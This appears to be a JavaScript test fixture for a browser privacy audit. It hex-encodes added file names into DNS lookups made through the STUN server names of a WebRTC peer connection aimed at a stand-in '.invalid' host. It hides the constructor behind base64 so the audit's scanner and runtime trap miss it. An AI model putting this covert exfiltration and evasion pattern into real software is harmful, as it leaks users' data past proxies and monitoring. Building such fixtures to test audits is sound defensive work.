// Leaky variant: data sent by DNS lookups. Each added file's name, hex-encoded, becomes a label of a host name
// under .invalid that the browser resolves by itself, outside the proxy: the name of an ICE server (a
// <link rel=dns-prefetch> would not do: Chromium does not resolve hints for pages behind a proxy). The
// constructor is reached indirectly, as in rtc-indirect.js, so neither the static scan nor the runtime trap
// sees it. Inside the audit's namespace the resolver is the namespace's own address: nothing leaves it.
const Peer = window[window.atob('UlRDUGVlckNvbm5lY3Rpb24=')].prototype.constructor;
const lookUp = (label) => {
  const peer = new Peer({ iceServers: [{ urls: `stun:${label}.leak.imglio-audit.invalid:3478` }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
lookUp('visit');
window.__leakOnFile((file) => {
  const hex = [...new TextEncoder().encode(file.name)].map((b) => b.toString(16).padStart(2, '0')).join('').slice(0, 60);
  lookUp(hex);
});
